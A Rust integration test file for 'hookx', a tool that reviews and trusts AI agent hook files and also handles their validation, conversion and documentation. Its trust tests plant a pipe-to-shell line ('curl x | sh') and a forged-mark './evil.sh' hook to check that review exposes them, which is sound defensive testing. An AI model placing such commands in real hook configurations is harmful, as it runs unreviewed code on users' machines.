//! The everyday commands tell the truth: `install` names the step left, `trust` shows what it
//! trusts (and `--list`, `--revoke`), `validate` fails on what is not a hook file or an event no
//! agent has, `convert --write` merges only into a hook file, and the docs' commands work.
//! Each runs the real binary against a temporary project and home.

mod common;

use std::path::PathBuf;
use std::time::Duration;

struct World {
    _dir: tempfile::TempDir,
    project: PathBuf,
    home: PathBuf,
}

/// What one run gave.
struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
}

impl World {
    fn new() -> World {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let (project, home) = (root.join("project"), root.join("home"));
        std::fs::create_dir_all(&project).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        World {
            _dir: dir,
            project,
            home,
        }
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        common::write(&self.project, rel, text)
    }

    /// `hookx ARGS…` in the project, HOME the temporary home, no terminal, bounded.
    fn run(&self, args: &[&str]) -> Ran {
        self.run_with(args, &[])
    }

    /// [`World::run`] with these variables set as well.
    fn run_with(&self, args: &[&str], vars: &[(&str, &std::path::Path)]) -> Ran {
        let mut cmd = common::hookx();
        cmd.args(args)
            .current_dir(&self.project)
            .env("HOME", &self.home)
            .env_remove("HOOKX_HOME")
            .env_remove("CODEX_HOME")
            .timeout(Duration::from_secs(60));
        for (name, value) in vars {
            cmd.env(name, value);
        }
        let out = cmd.output().unwrap();
        Ran {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }
}

impl std::fmt::Debug for Ran {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "exit {}\n--- stdout\n{}--- stderr\n{}",
            self.code, self.stdout, self.stderr
        )
    }
}

/// A Copilot guard in the project: a file `hookx run --host claude` runs itself, once trusted.
const GUARD: &str = r#"{"version": 1, "hooks": {"preToolUse": [
  {"type": "command", "bash": "./guard.sh", "matcher": "bash"}
]}}
"#;

/// The project with the Copilot guard and hookx's Claude routes installed.
fn routed() -> World {
    let w = World::new();
    w.write(".github/hooks/guard.json", GUARD);
    let install = w.run(&["install", "--host", "claude", "--hookx", "hookx"]);
    assert_eq!(install.code, 0, "{install:?}");
    w
}

#[test]
fn install_ends_with_the_trust_step_while_the_routed_files_are_untrusted() {
    let w = World::new();
    w.write(".github/hooks/guard.json", GUARD);
    let install = w.run(&["install", "--host", "claude", "--hookx", "hookx"]);
    assert_eq!(install.code, 0, "{install:?}");
    let last = install.stdout.lines().last().unwrap_or_default();
    assert!(
        last.starts_with("next: review and run `hookx trust`"),
        "{install:?}"
    );
    assert!(last.contains(".github/hooks/guard.json"), "{install:?}");

    // Once the files are trusted, install has no step left to name.
    assert_eq!(w.run(&["trust", "--yes"]).code, 0);
    let again = w.run(&["install", "--host", "claude", "--hookx", "hookx"]);
    assert_eq!(again.code, 0, "{again:?}");
    assert!(!again.stdout.contains("next:"), "{again:?}");

    // A changed file is waiting for review again.
    w.write(
        ".github/hooks/guard.json",
        &GUARD.replace("guard.sh", "other.sh"),
    );
    let changed = w.run(&["install", "--host", "claude", "--hookx", "hookx"]);
    assert!(
        changed
            .stdout
            .contains("next: review and run `hookx trust`"),
        "{changed:?}"
    );
}

/// Codex reads its review records in `$CODEX_HOME`, else `$HOME/.codex`: install writes them
/// there, and says where, whatever `HOOKX_HOME` says.
#[test]
fn install_writes_an_agents_records_where_the_agent_reads_them_and_names_that_file() {
    let w = World::new();
    w.write(".github/hooks/guard.json", GUARD);
    let sandbox = w.home.parent().unwrap().join("hookx-home");
    std::fs::create_dir_all(&sandbox).unwrap();
    let ran = w.run_with(
        &["install", "--host", "codex", "--hookx", "hookx"],
        &[("HOOKX_HOME", &sandbox)],
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let read_by_codex = w.home.join(".codex/config.toml");
    let text = std::fs::read_to_string(&read_by_codex).unwrap_or_default();
    assert!(text.contains("trusted_hash"), "{ran:?}\n{text}");
    assert!(!sandbox.join(".codex/config.toml").exists(), "{ran:?}");
    assert!(
        ran.stdout
            .contains(&format!("trusted for codex in {}", read_by_codex.display())),
        "{ran:?}"
    );

    // With CODEX_HOME, there.
    let w = World::new();
    w.write(".github/hooks/guard.json", GUARD);
    let codex_home = w.home.parent().unwrap().join("codex-home");
    std::fs::create_dir_all(&codex_home).unwrap();
    let ran = w.run_with(
        &["install", "--host", "codex", "--hookx", "hookx"],
        &[("CODEX_HOME", &codex_home)],
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let text = std::fs::read_to_string(codex_home.join("config.toml")).unwrap_or_default();
    assert!(text.contains("trusted_hash"), "{ran:?}\n{text}");
    assert!(!w.home.join(".codex/config.toml").exists(), "{ran:?}");
    assert!(
        ran.stdout.contains(&format!(
            "trusted for codex in {}",
            codex_home.join("config.toml").display()
        )),
        "{ran:?}"
    );
    // doctor reads the records there: the routes are reviewed.
    let doctor = w.run_with(
        &["doctor", "--host", "codex"],
        &[("CODEX_HOME", &codex_home)],
    );
    assert!(!doctor.stdout.contains("silently skips"), "{doctor:?}");
}

#[test]
fn trust_without_files_shows_what_it_would_trust_and_needs_yes_off_a_terminal() {
    let w = routed();
    let review = w.run(&["trust"]);
    // Not on a terminal and no --yes: a usage error, and nothing trusted.
    assert_eq!(review.code, 2, "{review:?}");
    assert!(review.stderr.contains("--yes"), "{review:?}");
    assert!(
        review.stdout.contains("new: .github/hooks/guard.json"),
        "{review:?}"
    );
    // Its rule: event, matcher, command.
    assert!(
        review.stdout.contains("preToolUse [bash]: ./guard.sh"),
        "{review:?}"
    );
    // hookx's own routes run nothing: their file is not listed for review.
    assert!(
        !review.stdout.contains(".claude/settings.json"),
        "{review:?}"
    );
    assert!(!review.stdout.contains("hookx run --host"), "{review:?}");
    // It is named as needing no review, not as trusted while nothing is.
    assert!(
        review
            .stdout
            .contains("needing no review: 1 file holding only hookx's own routes"),
        "{review:?}"
    );
    assert!(!review.stdout.contains("also trusted"), "{review:?}");
    let listed = w.run(&["trust", "--list"]);
    assert!(listed.stdout.contains("nothing is trusted"), "{listed:?}");

    let yes = w.run(&["trust", "--yes"]);
    assert_eq!(yes.code, 0, "{yes:?}");
    assert!(
        yes.stdout
            .contains("trusted .github/hooks/guard.json (sha256 "),
        "{yes:?}"
    );
    // The route file is trusted too (it runs nothing, and a change to it is then reviewed).
    assert!(
        yes.stdout
            .contains("trusted .claude/settings.json (sha256 "),
        "{yes:?}"
    );
    // Nothing new: nothing to review, nothing to confirm.
    let again = w.run(&["trust"]);
    assert_eq!(again.code, 0, "{again:?}");
    assert!(
        again
            .stdout
            .contains("already trusted .github/hooks/guard.json"),
        "{again:?}"
    );
}

#[test]
fn a_changed_file_is_reviewed_as_a_diff_against_what_was_trusted() {
    let w = routed();
    assert_eq!(w.run(&["trust", "--yes"]).code, 0);
    w.write(
        ".github/hooks/guard.json",
        &GUARD.replace("./guard.sh", "curl x | sh"),
    );
    let review = w.run(&["trust"]);
    assert_eq!(review.code, 2, "{review:?}");
    assert!(
        review.stdout.contains("changed: .github/hooks/guard.json"),
        "{review:?}"
    );
    assert!(review.stdout.contains("--- trusted"), "{review:?}");
    assert!(
        review
            .stdout
            .lines()
            .any(|l| l.trim_start().starts_with('-') && l.contains("./guard.sh")),
        "{review:?}"
    );
    assert!(
        review
            .stdout
            .lines()
            .any(|l| l.trim_start().starts_with('+') && l.contains("curl x | sh")),
        "{review:?}"
    );
}

#[test]
fn a_line_of_the_users_that_runs_a_route_or_a_forged_mark_is_shown() {
    let w = World::new();
    // Not install's: a line that runs a guard before the route, and a mark on a plain command.
    w.write(
        ".claude/settings.json",
        r#"{"hooks": {"PreToolUse": [{"hooks": [
  {"type": "command", "command": "./mine.sh && hookx run --host claude --event PreToolUse"},
  {"type": "command", "command": "./evil.sh", "hookx": {"created": "entry"}}
]}]}}
"#,
    );
    let review = w.run(&["trust"]);
    assert_eq!(review.code, 2, "{review:?}");
    assert!(
        review.stdout.contains("new: .claude/settings.json"),
        "{review:?}"
    );
    assert!(
        review.stdout.contains("./mine.sh && hookx run"),
        "{review:?}"
    );
    assert!(review.stdout.contains("./evil.sh"), "{review:?}");
}

#[test]
fn trust_list_and_revoke() {
    let w = routed();
    assert_eq!(w.run(&["trust", "--yes"]).code, 0);
    let listed = w.run(&["trust", "--list"]);
    assert_eq!(listed.code, 0, "{listed:?}");
    let line = |ran: &Ran, file: &str| {
        ran.stdout
            .lines()
            .find(|l| l.contains(file))
            .map(str::to_string)
    };
    let guard = line(&listed, ".github/hooks/guard.json").expect("listed");
    assert!(guard.starts_with("trusted "), "{listed:?}");
    assert!(guard.contains("copilot"), "{listed:?}");

    w.write(
        ".github/hooks/guard.json",
        &GUARD.replace("guard.sh", "x.sh"),
    );
    let listed = w.run(&["trust", "--list"]);
    let guard = line(&listed, ".github/hooks/guard.json").expect("listed");
    assert!(guard.starts_with("changed "), "{listed:?}");

    let revoked = w.run(&["trust", "--revoke", ".github/hooks/guard.json"]);
    assert_eq!(revoked.code, 0, "{revoked:?}");
    assert!(
        revoked.stdout.contains("revoked .github/hooks/guard.json"),
        "{revoked:?}"
    );
    let listed = w.run(&["trust", "--list"]);
    assert!(
        line(&listed, ".github/hooks/guard.json").is_none(),
        "{listed:?}"
    );
    assert!(
        line(&listed, ".claude/settings.json").is_some(),
        "{listed:?}"
    );
    // hookx list agrees: the file is untrusted.
    let list = w.run(&["list", "--format", "json"]);
    let rows: serde_json::Value = serde_json::from_str(&list.stdout).unwrap();
    let row = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["file"] == ".github/hooks/guard.json")
        .expect("a row of the guard");
    assert_eq!(row["trust"], "untrusted", "{list:?}");

    // Revoking what is not trusted says so.
    let again = w.run(&["trust", "--revoke", ".github/hooks/guard.json"]);
    assert_eq!(again.code, 1, "{again:?}");
    assert!(again.stderr.contains("not trusted"), "{again:?}");
    // --revoke wants files; --list takes none.
    assert_eq!(w.run(&["trust", "--revoke"]).code, 2);
    assert_eq!(w.run(&["trust", "--list", "x.json"]).code, 2);
}

/// Attacks row 1514: hookx never drops the record of a file that is gone (it may be on a
/// volume not mounted now), and a month of trusted worktrees since removed leaves thousands.
/// `trust --list` counts them and names the way to take them back; `--revoke` takes one by its
/// path though the file is gone.
#[test]
fn trust_list_names_the_records_of_files_that_are_gone() {
    let w = routed();
    assert_eq!(w.run(&["trust", "--yes"]).code, 0);
    let gone = w.project.join(".github/hooks/guard.json");
    std::fs::remove_file(&gone).unwrap();
    let listed = w.run(&["trust", "--list"]);
    assert_eq!(listed.code, 0, "{listed:?}");
    assert!(
        listed
            .stdout
            .contains("1 record of files not found now: kept, in case they come back")
            && listed.stdout.contains("`hookx trust --revoke FILE…`"),
        "{listed:?}"
    );
    let revoked = w.run(&["trust", "--revoke", gone.to_str().unwrap()]);
    assert_eq!(revoked.code, 0, "{revoked:?}");
    let listed = w.run(&["trust", "--list"]);
    assert!(!listed.stdout.contains("not found now"), "{listed:?}");
    assert!(
        listed.stdout.contains(".claude/settings.json"),
        "{listed:?}"
    );
}

#[test]
fn validate_calls_an_event_no_agent_has_an_error() {
    let w = World::new();
    w.write(
        ".claude/settings.json",
        r#"{"hooks": {"PreToolUs": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]}]}}
"#,
    );
    let ran = w.run(&["validate", ".claude/settings.json"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    assert!(
        ran.stdout
            .contains(".claude/settings.json:1:25: error: `PreToolUs` is no claude event"),
        "{ran:?}"
    );
    assert!(
        ran.stdout
            .contains("rename the key `PreToolUs` to `PreToolUse`"),
        "{ran:?}"
    );
    assert!(ran.stdout.contains("1 error(s), 0 warning(s)"), "{ran:?}");
    // The same with every hook file found, and in JSON.
    assert_eq!(w.run(&["validate"]).code, 1);
    let json = w.run(&["validate", ".claude/settings.json", "--format", "json"]);
    let diags: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(diags[0]["severity"], "error", "{json:?}");
    assert_eq!(diags[0]["pointer"], "/hooks/PreToolUs", "{json:?}");
}

#[test]
fn validate_refuses_a_file_that_is_no_hook_file() {
    let w = World::new();
    w.write(
        "package.json",
        r#"{"name": "app", "version": "1.0.0", "scripts": {"test": "jest"}}
"#,
    );
    let ran = w.run(&["validate", "package.json"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    assert!(
        ran.stderr.contains("package.json: not a hook file"),
        "{ran:?}"
    );
    // An agent's settings file with no hooks is still its hook file: nothing to say.
    w.write(".claude/settings.json", r#"{"permissions": {"allow": []}}"#);
    let ran = w.run(&["validate", ".claude/settings.json"]);
    assert_eq!(ran.code, 0, "{ran:?}");
}

#[test]
fn convert_never_writes_hooks_into_a_file_that_is_no_hook_file() {
    let w = World::new();
    let package = r#"{"name": "app", "version": "1.0.0", "scripts": {"test": "jest"}}
"#;
    w.write("package.json", package);
    w.write(
        "claude.json",
        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]}]}}
"#,
    );
    // With --write the merge, without it the conversion replacing the file: both refused.
    for extra in [
        &["--write"][..],
        &["--write", "--dry-run"],
        &[],
        &["--dry-run"],
    ] {
        let mut args = vec![
            "convert",
            "claude.json",
            "--to",
            "copilot",
            "--out",
            "package.json",
        ];
        args.extend(extra);
        let ran = w.run(&args);
        assert_eq!(ran.code, 1, "{args:?}: {ran:?}");
        assert!(
            ran.stderr
                .contains("package.json: is not a copilot hook file"),
            "{ran:?}"
        );
        assert!(ran.stdout.is_empty(), "{args:?}: no diff either: {ran:?}");
        let now = std::fs::read_to_string(w.project.join("package.json")).unwrap();
        assert_eq!(now, package, "{args:?}");
    }
    // A Copilot hook file and a new file take the hooks.
    w.write(
        "hooks.json",
        r#"{"version": 1, "hooks": {"sessionStart": [{"type": "command", "bash": "echo hi"}]}}
"#,
    );
    for out in ["hooks.json", "new.json"] {
        let ran = w.run(&[
            "convert",
            "claude.json",
            "--to",
            "copilot",
            "--write",
            "--out",
            out,
        ]);
        assert_eq!(ran.code, 0, "{out}: {ran:?}");
        let text = std::fs::read_to_string(w.project.join(out)).unwrap();
        assert!(text.contains("preToolUse"), "{out}: {text}");
    }
}

/// The lines of README.md's install block that set up completions and man pages, as a user
/// would paste them (the `cargo install` lines left out).
fn readme_setup_lines() -> Vec<String> {
    let readme =
        std::fs::read_to_string(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md"))
            .unwrap();
    let block = readme
        .split("## Install")
        .nth(1)
        .and_then(|s| s.split("```sh").nth(1))
        .and_then(|s| s.split("```").next())
        .expect("the install block");
    block
        .lines()
        .map(|l| l.split(" #").next().unwrap_or_default().trim().to_string())
        .filter(|l| l.starts_with("mkdir ") || l.starts_with("hookx "))
        .collect()
}

#[test]
fn the_readme_setup_of_completions_and_man_pages_works_on_a_fresh_home() {
    let lines = readme_setup_lines();
    assert!(
        lines.iter().any(|l| l.starts_with("hookx completions")),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l.starts_with("hookx man")),
        "{lines:?}"
    );
    let w = World::new();
    let bin = std::path::PathBuf::from(env!("CARGO_BIN_EXE_hookx"));
    let bin = std::env::var_os("CARGO_BIN_EXE_hookx")
        .map(PathBuf::from)
        .unwrap_or(bin);
    let path = format!(
        "{}:{}",
        bin.parent().unwrap().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    for line in &lines {
        // The binary under test, wherever its name points.
        let line = line.replacen("hookx ", &format!("{} ", bin.display()), 1);
        let out = std::process::Command::new("sh")
            .args(["-ec", &line])
            .env("HOME", &w.home)
            .env("PATH", &path)
            .current_dir(&w.project)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{line}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let completions = w
        .home
        .join(".local/share/bash-completion/completions/hookx");
    assert!(std::fs::metadata(&completions).unwrap().len() > 0);
    let man = w.home.join(".local/share/man/man1");
    assert!(man.join("hookx.1").is_file());
    assert!(man.join("hookx-convert.1").is_file());
}

#[test]
fn every_man_page_the_man_pages_refer_to_is_written() {
    let w = World::new();
    let dir = w.home.join("man1");
    let ran = w.run(&["man", "--dir", dir.to_str().unwrap()]);
    assert_eq!(ran.code, 0, "{ran:?}");
    let mut pages = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        pages += 1;
        // Roff writes `hookx\-convert(1)`.
        for (at, _) in text.match_indices("(1)") {
            let before = &text[..at];
            let name: String = before
                .chars()
                .rev()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '\\' | '_'))
                .collect::<Vec<_>>()
                .into_iter()
                .rev()
                .collect();
            let name = name.replace("\\-", "-");
            if name.starts_with("hookx") {
                assert!(
                    dir.join(format!("{name}.1")).is_file(),
                    "{name}(1) is missing"
                );
            }
        }
    }
    assert!(pages > 10, "{pages} pages");
    // Without --dir, hookx.1 on stdout, as before.
    let page = w.run(&["man"]);
    assert!(page.stdout.starts_with(".ie"), "{}", page.stdout);
}

#[test]
fn man_command_prints_that_commands_page() {
    let w = World::new();
    let dir = w.home.join("man1");
    assert_eq!(w.run(&["man", "--dir", dir.to_str().unwrap()]).code, 0);
    for command in ["convert", "doctor", "simulate", "trust"] {
        let ran = w.run(&["man", command]);
        assert_eq!(ran.code, 0, "{command}: {ran:?}");
        let written = std::fs::read_to_string(dir.join(format!("hookx-{command}.1"))).unwrap();
        assert_eq!(ran.stdout, written, "{command}: the page --dir writes");
    }
    // A command that is none: a usage error naming the closest one.
    let ran = w.run(&["man", "convrt"]);
    assert_eq!(ran.code, 2, "{ran:?}");
    assert!(ran.stderr.contains("did you mean `convert`"), "{ran:?}");
    assert!(ran.stdout.is_empty(), "{ran:?}");
}

#[test]
fn event_options_complete_event_names_not_files() {
    let w = World::new();
    let script = w.run(&["completions", "bash"]).stdout;
    let cases: Vec<&str> = script
        .split("--event)")
        .skip(1)
        .map(|case| case.lines().nth(1).unwrap_or_default())
        .collect();
    // `run`, `exec` and `simulate`.
    assert_eq!(cases.len(), 3, "{script}");
    for case in cases {
        assert!(!case.contains("compgen -f"), "{case}");
        for name in [
            "PreToolUse",
            "preToolUse",
            "pre_run_command",
            "SessionStart",
        ] {
            assert!(case.contains(name), "{name}: {case}");
        }
    }
    // Any name is still taken: a host may send an event this hookx does not know.
    let ran = w.run(&["simulate", "--event", "SomeNewEvent"]);
    assert_ne!(ran.code, 2, "{ran:?}");
}

#[test]
fn list_shows_the_command_a_converted_entry_runs() {
    let w = World::new();
    w.write(
        "claude.json",
        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh --strict"}]}]}}
"#,
    );
    let converted = w.run(&[
        "convert",
        "claude.json",
        "--from",
        "claude",
        "--to",
        "copilot",
        "--write",
    ]);
    assert_eq!(converted.code, 0, "{converted:?}");
    let list = w.run(&["list"]);
    assert_eq!(list.code, 0, "{list:?}");
    let row = list
        .stdout
        .lines()
        .find(|l| l.contains(".github/hooks/"))
        .expect("the converted file's row");
    assert!(
        row.contains("./guard.sh --strict (via hookx exec --as claude)"),
        "{list:?}"
    );
    assert!(!list.stdout.contains("command -v"), "{list:?}");
    // The JSON keeps the whole line, and says what it wraps.
    let json = w.run(&["list", "--format", "json"]);
    let rows: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let row = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["dialect"] == "copilot")
        .unwrap();
    assert!(row["handler"].as_str().unwrap().starts_with("command -v"));
    assert_eq!(row["wrapped"]["command"], "./guard.sh --strict");
    assert_eq!(row["wrapped"]["as"], "claude");
}

/// On a terminal (`script(1)` gives `hookx trust` one), the review ends with a question, and
/// only a yes trusts.
#[test]
fn on_a_terminal_trust_asks_and_only_a_yes_trusts() {
    let w = routed();
    let bin = std::env::var_os("CARGO_BIN_EXE_hookx")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_hookx")));
    let on_a_terminal = |answer: &str| {
        let mut child = std::process::Command::new("script")
            .args(["-qec", &format!("'{}' trust", bin.display()), "/dev/null"])
            .current_dir(&w.project)
            .env("HOME", &w.home)
            .env_remove("HOOKX_HOME")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("script(1), from util-linux");
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(answer.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let no = on_a_terminal("n\n");
    assert!(no.contains("trust 1 file? [y/N]"), "{no}");
    assert!(no.contains("nothing trusted"), "{no}");
    assert!(
        w.run(&["trust", "--list"])
            .stdout
            .contains("nothing is trusted")
    );
    let yes = on_a_terminal("y\n");
    assert!(
        yes.contains("trusted .github/hooks/guard.json (sha256 "),
        "{yes}"
    );
}
